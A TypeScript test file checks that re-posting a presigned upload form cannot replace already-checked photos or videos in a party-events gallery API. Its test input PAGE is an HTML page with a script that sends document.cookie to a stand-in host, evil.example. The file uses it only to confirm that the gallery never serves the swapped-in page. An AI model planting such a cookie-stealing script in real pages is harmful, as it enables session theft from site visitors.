/**
 * A presigned form stays valid for its whole window, after its upload was
 * checked and recorded too: posting it again (the policy takes any bytes
 * of the declared type) must not change what the galleries list and serve.
 * The API keeps its own copy of what it checked, under a key no form can
 * name; the form reaches only its upload's key, which nobody reads.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { ChapterPageResponse, MediaItem, PartyEventPageResponse } from '../../../shared/api/types';
import type { PartyEvent } from '../../../functions/domains/catalog/party-events/party-events';
import { invoke } from '../../support/invoke';
import { useFreshTable } from '../../support/table';
import { mp4Video } from '../../support/videos';
import { newChapter, newEvent, newUser, type TestUser } from '../party-events/fixtures';
import { pngImage, presign, record, recentMedia, sendForm } from './fixtures';

useFreshTable();

const PAGE = Buffer.from('<!doctype html><html><body><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>');

let event: PartyEvent;
let user: TestUser;
beforeAll(async () => {
  event = await newEvent(await newChapter(), '2031-05-01');
  user = await newUser();
});

/** What is served at `url`: its bytes and content type. */
async function served(url: string) {
  const res = await fetch(url);
  expect(res.status, url).toBe(200);
  return { type: res.headers.get('content-type'), bytes: Buffer.from(await res.arrayBuffer()) };
}

/** The item as each gallery lists it: the event's page, the chapter's page, the chapter's recent media. */
async function listed(item: MediaItem): Promise<(MediaItem | undefined)[]> {
  const page = await invoke<PartyEventPageResponse>('getPartyEvent', { params: { id: item.eventId! } });
  const chapter = await invoke<ChapterPageResponse>('getChapter', { params: { id: item.chapterId! } });
  return [page.json.photos, chapter.json.photos, await recentMedia(item.chapterId!)].map((list) => list.find((m) => m.id === item.id));
}

describe('a form posted again after its upload was recorded', () => {
  it('changes nothing listed or served: the checked PNG stays, and recording the form again is refused', async () => {
    const png = await pngImage(64, 48);
    const upload = await presign(user, event.id, 'image/png', png.length);
    await sendForm(upload, png);
    const recorded = await record(user, event.id, upload.key);
    expect(recorded.statusCode, recorded.text).toBe(201);
    const item = recorded.json;
    const thumbnail = await served(item.thumbnailUrl!);

    // The same form, within its window, with a web page for a photo: S3 takes it (the policy holds).
    await sendForm(upload, PAGE);

    for (const shown of await listed(item)) expect(shown).toEqual(item);
    expect(await served(item.url)).toEqual({ type: 'image/png', bytes: png });
    expect(await served(item.thumbnailUrl!)).toEqual(thumbnail);

    // Recording it again checks the page (refused) or finds the upload recorded: either way, nothing shown changes.
    const again = await record(user, event.id, upload.key);
    expect(again.statusCode).toBeGreaterThanOrEqual(400);
    for (const shown of await listed(item)) expect(shown).toEqual(item);
    expect(await served(item.url)).toEqual({ type: 'image/png', bytes: png });
  });

  it('a re-posted video form cannot replace a checked video either', async () => {
    const video = mp4Video();
    const upload = await presign(user, event.id, 'video/mp4', video.length);
    await sendForm(upload, video);
    const recorded = await record(user, event.id, upload.key);
    expect(recorded.statusCode, recorded.text).toBe(201);
    await sendForm(upload, PAGE);
    expect(await served(recorded.json.url)).toEqual({ type: 'video/mp4', bytes: video });
    // A second, valid video through the same form: its own copy would be refused as a repeat, the first one stays.
    await sendForm(upload, mp4Video({ frames: 100 }));
    expect((await record(user, event.id, upload.key)).statusCode).toBe(409);
    expect(await served(recorded.json.url)).toEqual({ type: 'video/mp4', bytes: video });
  });
});
